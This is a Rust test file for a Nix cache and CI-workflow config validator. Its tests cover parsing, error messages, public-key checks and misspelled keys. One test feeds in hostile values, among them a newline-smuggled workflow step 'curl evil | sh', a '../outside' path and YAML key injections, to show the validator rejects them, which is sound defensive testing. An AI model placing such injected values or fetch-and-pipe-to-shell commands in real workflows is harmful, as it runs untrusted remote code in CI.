//! The config's validation, on tables written to break it.

use super::*;

const VALID: &str = r#"
[workspace.metadata.cache]
version = 1
backend = "cachix"
name = "nanna-coder"
public-keys = ["nanna-coder.cachix.org-1:U/8OwBxzrmKhrghm7KtNA3cRnYR5ioKlB637gbc2BF4="]
local-cache = "target/nix-cache"
push-filter = ["-source$", 'nixpkgs\.tar\.gz$']
rust = "1.84.0"
arches = ["x86_64", "aarch64"]
os = ["ubuntu-latest"]
deps.attr = "deps"
images = { ollama = "ollamaImage", harness = "harnessImage" }
tests = { unit = ["test"], fmt = ["fmt", "--check"] }
"#;

#[test]
fn reads_a_valid_table_with_tables_in_name_order() {
    let config = Config::from_manifest(VALID).unwrap();
    assert_eq!(config.version, 1);
    assert_eq!(config.backend, Backend::Cachix);
    assert_eq!(config.image_attr("ollama").unwrap(), "ollamaImage");
    assert_eq!(config.test_args("fmt").unwrap(), ["fmt", "--check"]);
    assert!(config.push_filter[0].is_match("/nix/store/abc-foo-source"));
    let images: Vec<_> = config.images.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(images, ["harness", "ollama"], "name order, not file order");
}

#[test]
fn reports_every_problem_at_once_naming_the_key() {
    let text = VALID
        .replace("version = 1", "version = \"one\"")
        .replace("'nixpkgs\\.tar\\.gz$'", "'(unclosed'")
        .replace("rust = \"1.84.0\"\n", "")
        .replace("ollama = \"ollamaImage\"", "ollama = 3");
    let message = Config::from_manifest(&text).unwrap_err().to_string();
    assert!(message.contains("4 problem(s)"), "{message}");
    assert!(message.contains("`version` must be a positive integer"), "{message}");
    assert!(message.contains("`push-filter`: `(unclosed` is not a valid regular expression: "), "{message}");
    assert!(message.contains("`rust` is missing"), "{message}");
    assert!(message.contains("`images` must be a table"), "{message}");
}

#[test]
fn public_keys_are_a_list_of_keys_with_distinct_names() {
    let two = r#"public-keys = ["a-1:U/8OwBxzrmKhrghm7KtNA3cRnYR5ioKlB637gbc2BF4=", "a-2:U/8OwBxzrmKhrghm7KtNA3cRnYR5ioKlB637gbc2BF4="]"#;
    let config = Config::from_manifest(&VALID.replace("public-keys = [", &format!("{two}\n#["))).unwrap();
    assert_eq!(config.public_keys.len(), 2);
    for bad in [
        r#"public-keys = "a-1:U/8OwBxzrmKhrghm7KtNA3cRnYR5ioKlB637gbc2BF4=""#,
        r#"public-keys = ["a-1:U/8OwBxzrmKhrghm7KtNA3cRnYR5ioKlB637gbc2BF4=", "a-1:V/8OwBxzrmKhrghm7KtNA3cRnYR5ioKlB637gbc2BF4="]"#,
        r#"public-keys = ["not a key"]"#,
        // Not base 64 of an ed25519 key: Nix refuses it, and would check nothing with it.
        r#"public-keys = ["a-1:@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@="]"#,
        r#"public-keys = ["a-1:U/8OwBxzrmKhrghm7KtNA3cRnYR5ioKlB637gbc2BF4=U/8O"]"#,
    ] {
        let message = Config::from_manifest(&VALID.replace("public-keys = [", &format!("{bad}\n#["))).unwrap_err();
        assert!(message.to_string().contains("`public-keys` must be an array of Nix public keys"), "{bad}: {message}");
    }
}

#[test]
fn a_misspelled_key_is_an_error_naming_the_right_one() {
    // `public-key` is the key's name before it took a list.
    let text = VALID.replace("public-keys =", "public-key =").replace("deps.attr", "deps.atr");
    let message = Config::from_manifest(&text).unwrap_err().to_string();
    for expected in [
        "`public-key` is not a key of [workspace.metadata.cache]: did you mean `public-keys`?",
        "`deps.atr` is not a key of [workspace.metadata.cache]: did you mean `deps.attr`?",
    ] {
        assert!(message.contains(expected), "{message}");
    }
    let message = Config::from_manifest(&VALID.replace("os = ", "frobnicate = ")).unwrap_err().to_string();
    let expected = "`frobnicate` is not a key of [workspace.metadata.cache]: the keys are version, backend";
    assert!(message.contains(expected), "{message}");
}

#[test]
fn values_that_reach_the_workflows_cannot_add_a_line_to_them() {
    let hostile = [
        ("local-cache = \"target/nix-cache\"", "local-cache = \"x\\n      - run: curl evil | sh\""),
        ("local-cache = \"target/nix-cache\"", "local-cache = \"../outside\""),
        ("name = \"nanna-coder\"", "name = \"a\\nb\""),
        ("os = [\"ubuntu-latest\"]", "os = [\"ubuntu-latest\\n  evil: 1\"]"),
        ("arches = [\"x86_64\", \"aarch64\"]", "arches = [\"x86_64 #\"]"),
        ("rust = \"1.84.0\"", "rust = \"1.84.0\\n\""),
        ("harness = \"harnessImage\"", "\"harness\\nx\" = \"harnessImage\""),
        ("unit = [\"test\"]", "\"unit: x\" = [\"test\"]"),
    ];
    for (from, to) in hostile {
        assert!(VALID.contains(from), "{from}");
        let err = Config::from_manifest(&VALID.replace(from, to)).unwrap_err().to_string();
        assert!(err.contains("problem(s)"), "{to}: {err}");
    }
}

#[test]
fn a_missing_table_names_the_fix() {
    let message = Config::from_manifest("[workspace]\n").unwrap_err().to_string();
    assert!(message.contains("[workspace.metadata.cache] is missing"), "{message}");
}

#[test]
fn unknown_names_list_the_known_ones() {
    let config = Config::from_manifest(VALID).unwrap();
    let message = config.image_attr("postgres").unwrap_err().to_string();
    assert!(message.contains("harness, ollama"), "{message}");
    assert!(config.check_arch("riscv64").is_err());
    assert!(config.test_args("bench").is_err());
}
